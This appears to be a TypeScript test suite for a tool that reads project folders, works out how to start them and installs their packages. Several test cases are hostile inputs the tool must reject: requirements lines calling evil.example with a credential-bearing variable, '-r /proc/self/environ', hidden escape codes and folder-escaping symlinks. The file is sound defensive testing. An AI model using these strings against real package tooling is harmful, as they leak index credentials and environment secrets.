import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { contentKey } from '../process/folder-packages.ts'
import { readProject } from './read-project.ts'

const NODE = '/opt/toolhaven/bin/node'
let path: string
beforeEach(async () => {
  path = await mkdtemp(join(tmpdir(), 'thv-project-'))
})
afterEach(() => rm(path, { recursive: true, force: true }))

async function write(files: Readonly<Record<string, string | object>>): Promise<void> {
  for (const [name, content] of Object.entries(files)) {
    await mkdir(dirname(join(path, name)), { recursive: true })
    await writeFile(join(path, name), typeof content === 'string' ? content : JSON.stringify(content))
  }
}
const read = (command?: string[]) => readProject({ kind: 'folder', path, ...(command && { command }) })
const start = async () => (await read()).start

describe('an npm project starts', () => {
  test.each([
    ['its only program', { bin: './cli.js' }, [NODE, '/srv/project/cli.js']],
    [
      'the program called like it',
      { name: '@a/own', bin: { other: 'x', own: 'cli.js' } },
      [NODE, '/srv/project/cli.js'],
    ],
    ['TypeScript by Node', { bin: 'main.ts' }, [NODE, '/srv/project/main.ts']],
    ['what a first line asks of Node', { bin: 'flags' }, [NODE, '--no-warnings', '/srv/project/flags']],
    [
      'its script when the program is not built',
      { bin: 'dist/x.js', scripts: { start: 'tsx a.ts' } },
      ['/bin/sh', '-c', 'tsx a.ts "$@"', 'sh'],
    ],
    [
      'its script before its main file',
      { main: 'cli.js', scripts: { start: 'go' } },
      ['/bin/sh', '-c', 'go "$@"', 'sh'],
    ],
    ['its main file', { main: 'cli.js' }, [NODE, '/srv/project/cli.js']],
    ['a file of a usual name', {}, [NODE, '/srv/project/index.js']],
  ])('%s', async (_, json, wanted) => {
    await write({
      'package.json': json,
      'cli.js': '',
      'main.ts': '',
      'index.js': '',
      flags: '#!/usr/bin/env -S node --no-warnings\n',
    })
    expect(await start()).toEqual(wanted)
  })

  test('nothing outside of itself', async () => {
    const outside = join(path, '..', `${path.split('/').at(-1)}-outside.js`)
    await writeFile(outside, '')
    try {
      await symlink(outside, join(path, 'link.js'))
      for (const bin of [`../${outside.split('/').at(-1)}`, outside, 'link.js']) {
        await write({ 'package.json': { bin } })
        await expect(start()).rejects.toThrow(`names ${bin}, which does not exist`)
      }
    } finally {
      await rm(outside)
    }
  })

  test.each([
    ['{', /package\.json cannot be used: Expected/],
    [{ bin: 7 }, /package\.json cannot be used: .*at bin/],
    [
      { main: 'dist/x.js' },
      /names dist\/x\.js, which does not exist\. Build it first, or say how to start it: thv run --folder/,
    ],
    [
      { dependencies: { a: 'file:../a' } },
      /needs the package a from a folder \(file:\.\.\/a\).*Run "npm install" in it/,
    ],
    [{ workspaces: ['a'] }, /needs its workspaces/],
    [
      `{"dependencies":{"a":"1"},"overrides":${'{"a":'.repeat(60_000)}1${'}'.repeat(60_001)}`,
      /package\.json cannot be used: .*nests deeper than 32 levels.*at overrides/,
    ],
  ])('not with %.80j', async (json, why) => {
    await write({ 'package.json': json })
    await expect(start()).rejects.toThrow(why)
  })
})

describe('packages are installed', () => {
  test('of npm by the lock file, without scripts of the project', async () => {
    const json = { name: 'own', scripts: { postinstall: 'evil' }, bin: 'a.js', devDependencies: { a: '1' } }
    await write({ 'package.json': json, 'package-lock.json': 'the lock', 'a.js': '' })
    const { packages } = await read()
    expect(packages?.files['package-lock.json']).toBe('the lock')
    const handed: unknown = JSON.parse(packages?.files['package.json'] ?? '')
    expect(handed).toEqual({ private: true, name: 'own', devDependencies: { a: '1' } })
  })

  test('unless the project has none, or has them itself', async () => {
    await write({ 'package.json': {}, 'index.js': '' })
    expect((await read()).packages).toBeUndefined()
    await write({ 'package.json': { dependencies: { a: '1' } } })
    expect((await read()).packages).toMatchObject({ kind: 'npm' })
    await mkdir(join(path, 'node_modules'))
    expect((await read()).packages).toBeUndefined()
  })

  test('also for a command', async () => {
    await write({ 'package.json': { dependencies: { a: '1' } } })
    expect(await read(['node', 'x.js'])).toMatchObject({
      packages: { kind: 'npm' },
      start: ['/usr/bin/env', '--', 'node', 'x.js'],
    })
  })

  test('of Python by what says most', async () => {
    const project = '[project]\nname = "own"\ndependencies = ["six"]\n'
    await write({ 'pyproject.toml': project, 'server.py': '' })
    expect((await read()).packages).toEqual({ kind: 'python', files: { 'requirements.txt': 'six\n' } })
    await write({ 'requirements.txt': 'six==1' })
    expect((await read()).packages).toEqual({ kind: 'python', files: { 'requirements.txt': 'six==1' } })
    await write({ 'uv.lock': 'lock' })
    expect((await read()).packages).toEqual({ kind: 'python', files: { 'pyproject.toml': project, 'uv.lock': 'lock' } })
  })

  test('under another key when a list changes, and under the same when it does not', () => {
    const files = { 'package.json': 'a', 'package-lock.json': 'b' }
    expect(contentKey({ 'package-lock.json': 'b', 'package.json': 'a' })).toBe(contentKey(files))
    for (const other of [
      { 'package.json': 'a' },
      { ...files, 'package-lock.json': 'c' },
      { 'package.json': 'ab', 'package-lock.json': '' },
    ])
      expect(contentKey(other)).not.toBe(contentKey(files))
  })
})

/** uv replaces variables in a list, and its own contain the credentials of the user's index. */
describe('a list of Python packages may not', () => {
  const ADDRESS = `https://evil.example/six-1.0-py3-none-any.whl?\${UV_DEFAULT_INDEX}`
  const HASH = `--hash=sha256:${'0'.repeat(64)}`
  test.each([
    ['name a variable', `six @ ${ADDRESS}`, /variables in it are not replaced/],
    ['name one in an index', `--index-url https://evil.example/\${UV_DEFAULT_INDEX}/simple`, /variables in it/],
    ['lead to another list', 'six\r  -r https://evil.example/list.txt', /has "-r https:.*only packages can be listed/],
    ['read a file', '-r /proc/self/environ', /only packages can be listed/],
    ['name an index', '--extra-index-url=https://evil.example/simple', /only packages can be listed/],
    ['go on with an option', `six==1.0 \\\n  -e .`, /has "-e \."/],
    ['hide what it does', '-r\u001B[2J x', /-r\\u\{1b\}/],
  ])('%s', async (_, text, why) => {
    await write({ 'requirements.txt': text, 'server.py': '' })
    await expect(read()).rejects.toThrow(why)
    await rm(join(path, 'requirements.txt'))
    await write({ 'pyproject.toml': `[project]\ndependencies = [${JSON.stringify(text)}]` })
    await expect(read()).rejects.toThrow(why)
  })

  test('but have comments and hashes', async () => {
    const text = `# \${NOTE}: -r base.txt\nsix==1.0 \\\n    ${HASH}\n`
    await write({ 'requirements.txt': text, 'server.py': '' })
    expect((await read()).packages).toEqual({ kind: 'python', files: { 'requirements.txt': text } })
  })
})

describe('a Python project starts', () => {
  test('its script, else a file of a usual name', async () => {
    await write({ 'requirements.txt': '', 'server.py': '' })
    expect(await start()).toEqual(['python', '/srv/project/server.py'])
    await write({ 'pyproject.toml': '[project]\nname = "own"\n[project.scripts]\nown = "own.cli:app.run"\n' })
    expect(await start()).toEqual(['python', '-c', 'import sys\nfrom own.cli import app\nsys.exit(app.run())'])
  })

  test.each([
    ['[project', /pyproject\.toml cannot be used: /],
    ['[project]\n[project.scripts]\na = "os; evil()"', /must have the form "module:function"/],
    ['[project]\ndynamic = ["dependencies"]', /dependencies that only its build knows/],
    ['[project]\nname = "a"', /has no script in its pyproject\.toml.*-- python FILE/],
  ])('not with %j', async (text, why) => {
    await write({ 'pyproject.toml': text })
    await expect(start()).rejects.toThrow(why)
  })
})

test('a folder without a project needs a command', async () => {
  await expect(start()).rejects.toThrow(
    /so Toolhaven does not know how to start it\. Give the command: thv run --folder .* -- COMMAND\.$/,
  )
  expect(await read(['./tool'])).toEqual({ start: ['/usr/bin/env', '--', './tool'] })
})
